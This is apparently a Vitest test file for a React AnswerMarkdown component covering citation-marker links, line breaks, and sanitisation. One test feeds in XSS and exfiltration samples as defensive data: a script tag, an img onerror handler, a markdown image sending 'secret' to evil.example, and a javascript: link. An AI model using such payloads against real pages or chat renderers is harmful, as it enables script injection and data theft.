import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { AnswerMarkdown, linkCitationMarkers } from './AnswerMarkdown.js';

describe('linkCitationMarkers', () => {
  it('links only the markers that name a citation, and leaves markdown links alone', () => {
    expect(linkCitationMarkers('Do this [1] and that [2][7].', new Set([1, 2]))).toBe(
      'Do this [\\[1\\]](#cite-1) and that [\\[2\\]](#cite-2)[7].',
    );
    expect(linkCitationMarkers('[3](https://example.com) stays', new Set([3]))).toBe('[3](https://example.com) stays');
  });
});

describe('AnswerMarkdown', () => {
  it('renders markdown, with [n] markers as links that select the citation', async () => {
    const onCite = vi.fn();
    render(
      <AnswerMarkdown text={'**Start with the Feedback Equation** [1], then follow up [2].'} citationNumbers={[1, 2]} onCite={onCite} />,
    );
    expect(screen.getByText('Start with the Feedback Equation').tagName).toBe('STRONG');
    const marker = screen.getByRole('link', { name: 'Citation 2' });
    expect(marker).toHaveAttribute('href', '#citation-2');
    await userEvent.click(marker);
    expect(onCite).toHaveBeenCalledWith(2);
    // Keyboard: the marker is a link, so Enter follows it too.
    screen.getByRole('link', { name: 'Citation 1' }).focus();
    await userEvent.keyboard('{Enter}');
    expect(onCite).toHaveBeenLastCalledWith(1);
  });

  it('keeps line breaks, so the sources list under an answer is one line per source', () => {
    const { container } = render(
      <AnswerMarkdown text={'Answer [1].\n\n**Sources**\n[1] "One", Lara Hogan\n[2] "Two", Will Larson'} citationNumbers={[1, 2]} />,
    );
    expect(container.querySelectorAll('br')).toHaveLength(2);
  });

  it('shows hostile model output or crawled text as text: no HTML, no images, no script URLs', () => {
    const hostile = [
      'Hello <script>window.pwned = true</script><img src=x onerror="window.pwned = true">',
      '![exfiltrate](https://evil.example/leak?q=secret)',
      '[click me](javascript:alert(1)) and [a real link](https://lethain.com/staff-engineer/)',
    ].join('\n\n');
    const { container } = render(<AnswerMarkdown text={hostile} citationNumbers={[]} />);
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();
    // The image's alt text is kept as text; its URL is not requested.
    expect(container.textContent).toContain('[image not shown: exfiltrate]');
    expect(container.innerHTML).not.toContain('evil.example');
    const links = [...container.querySelectorAll('a')];
    expect(links.some((link) => (link.getAttribute('href') ?? '').startsWith('javascript:'))).toBe(false);
    const real = screen.getByRole('link', { name: 'a real link' });
    expect(real).toHaveAttribute('href', 'https://lethain.com/staff-engineer/');
    expect(real).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(real).toHaveAttribute('target', '_blank');
  });
});
